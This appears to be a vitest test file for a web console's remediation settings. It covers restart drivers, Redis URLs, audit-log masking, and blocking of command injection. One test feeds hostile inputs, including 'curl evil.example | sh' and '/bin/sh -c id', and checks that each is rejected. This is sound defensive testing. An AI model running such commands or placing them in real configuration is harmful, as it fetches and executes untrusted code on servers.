import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";
import { mockedCache, mockedHeaders, mockedNextAuth, signInAs } from "@/tests/support/mock-session";
import { removeDriversFile, writeDriversFile } from "@/tests/support/drivers-file";

vi.hoisted(() => {
  process.env.HEADROOM_RESTART_DRIVERS_FILE = `/tmp/headroom-test-drivers-${process.pid}.json`;
});
vi.mock("next/headers", () => mockedHeaders());
vi.mock("next/cache", () => mockedCache());
vi.mock("next-auth", (importOriginal) => mockedNextAuth(importOriginal));

import { db } from "@/lib/db";
import { saveRemediationSettingsAction } from "@/app/(console)/targets/[slug]/settings/actions";
import { remediationSettingsInputSchema, saveRemediationSettings } from "@/lib/remediation/drivers/save-remediation-settings";
import { configuredCommandDrivers } from "@/lib/remediation/drivers/command-drivers-file";
import { resolveDrivers } from "@/lib/remediation/drivers/resolve-drivers";
import { verifyAuditChain } from "@/lib/audit/verify-audit-chain";
import { form as formData } from "@/tests/support/action-forms";
import { insertUser } from "@/tests/support/user-fixtures";

beforeAll(() =>
  writeDriversFile([
    { name: "kubectl-api", rolling: ["kubectl", "rollout", "restart", "deployment/api"], emergency: ["kubectl", "delete", "pod", "-l", "app=api"], run_as_user: "nobody", timeout_seconds: 60 },
    { name: "compose-api", rolling: ["docker", "compose", "restart", "api"], emergency: ["docker", "compose", "kill", "api"], run_as_user: "nobody" },
  ]),
);
afterAll(async () => {
  removeDriversFile();
  await db.$disconnect();
});
const admin = { id: 1, email: "admin@test", role: "admin" };
const form = (fields: Record<string, string>) => remediationSettingsInputSchema.parse({ restartTimeoutSeconds: "60", ...fields });
const resolve = (baseUrl: string, settings: Parameters<typeof resolveDrivers>[0]["settings"]) =>
  resolveDrivers({ baseUrl, settings, demo: false, commandDrivers: configuredCommandDrivers() });

describe("remediation settings", () => {
  it("saves a restart driver and a Redis URL, keeps the URL when left empty, and audits without the password", async () => {
    const target = await db.target.create({ data: { slug: "rs", name: "RS", baseUrl: "http://127.0.0.1:9" } });
    await saveRemediationSettings({ targetId: target.id, actor: admin, input: form({ restartDriver: "command", commandDriver: "kubectl-api", redisUrl: "redis://:s3cret@redis:6379/0" }) });
    let row = await db.remediationSettings.findUniqueOrThrow({ where: { targetId: target.id } });
    expect(resolve(target.baseUrl, row)).toMatchObject({
      restart: { kind: "command", rolling: ["kubectl", "rollout", "restart", "deployment/api"], emergency: ["kubectl", "delete", "pod", "-l", "app=api"] },
      redis: { kind: "redis", url: "redis://:s3cret@redis:6379/0", pattern: "exp:*" },
      restartTimeoutMs: 60_000,
    });

    // No restart driver, Redis URL field left empty: restarts become unavailable, the URL stays.
    await saveRemediationSettings({ targetId: target.id, actor: admin, input: form({ restartDriver: "none", redisKeyPattern: "tmp:*" }) });
    row = await db.remediationSettings.findUniqueOrThrow({ where: { targetId: target.id } });
    expect(resolve(target.baseUrl, row)).toMatchObject({ restart: null, redis: { url: "redis://:s3cret@redis:6379/0", pattern: "tmp:*" } });

    await saveRemediationSettings({ targetId: target.id, actor: admin, input: form({ restartDriver: "http", restartHookUrl: "http://hooks/restart", clearRedisUrl: "on" }) });
    row = await db.remediationSettings.findUniqueOrThrow({ where: { targetId: target.id } });
    expect(row).toMatchObject({ restartDriver: "http", restartHookUrl: "http://hooks/restart", redisUrl: null });

    const audited = await db.auditEvent.findMany({ where: { type: "target.changed", targetId: target.id } });
    expect(audited).toHaveLength(3);
    expect(JSON.stringify(audited.map((a) => a.parameters))).not.toContain("s3cret");
    expect(JSON.stringify(audited[0].parameters)).toContain("****");
    expect((await verifyAuditChain({})).ok).toBe(true);
  });

  it("refuses an incomplete driver with a message naming what is missing", () => {
    expect(() => form({ restartDriver: "http" })).toThrow(/an HTTP restart needs the hook URL/);
    expect(() => form({ restartDriver: "command" })).toThrow(/needs one of the drivers configured on the server/);
    expect(() => form({ restartDriver: "none", redisUrl: "http://not-redis" })).toThrow(/redis:\/\//);
  });
});

describe("an admin cannot make the console run a command of their choosing", () => {
  it("refuses a typed argv and an unconfigured driver name, stores nothing, and audits the refusal", async () => {
    const target = await db.target.create({ data: { slug: "argv", name: "Argv", baseUrl: "http://127.0.0.1:9" } });
    signInAs(await insertUser("admin"));
    const attempts: { fields: Record<string, string>; field: string }[] = [
      { fields: { restartDriver: "command", commandDriver: "kubectl-api", rollingCommand: "/bin/sh\n-c\ncurl evil.example | sh" }, field: "rollingCommand" },
      { fields: { restartDriver: "command", commandDriver: "kubectl-api", emergencyCommand: "/bin/sh" }, field: "emergencyCommand" },
      { fields: { restartDriver: "command", commandDriver: "/bin/sh -c id" }, field: "commandDriver" },
      { fields: { restartDriver: "command", commandDriver: "sh" }, field: "commandDriver" },
    ];
    for (const attempt of attempts) {
      const result = await saveRemediationSettingsAction(null, formData({ slug: target.slug, restartTimeoutSeconds: "60", ...attempt.fields }));
      expect(result).toMatchObject({ ok: false, code: "INVALID_INPUT", fieldErrors: { [attempt.field]: expect.any(String) } });
    }
    expect(await db.remediationSettings.findUnique({ where: { targetId: target.id } })).toBeNull();
    const refusals = await db.auditEvent.findMany({ where: { type: "target.changed", targetSlug: target.slug } });
    expect(refusals.map((r) => r.outcome)).toEqual(["invalid", "invalid", "invalid", "invalid"]);

    // A configured name is all that is stored; what runs is the file's argv.
    expect(await saveRemediationSettingsAction(null, formData({ slug: target.slug, restartDriver: "command", commandDriver: "compose-api" }))).toMatchObject({ ok: true });
    const row = await db.remediationSettings.findUniqueOrThrow({ where: { targetId: target.id } });
    expect(row).toMatchObject({ restartDriver: "command", commandDriver: "compose-api" });
    expect(resolve(target.baseUrl, row).restart).toMatchObject({ kind: "command", rolling: ["docker", "compose", "restart", "api"], runAsUser: "nobody" });
    // Nor around the code: the database keeps only a driver's name.
    await expect(db.$executeRaw`UPDATE remediation_settings SET command_driver = '/bin/sh -c id' WHERE target_id = ${target.id}`).rejects.toThrow(/command_driver_format|check constraint/i);
  });
});
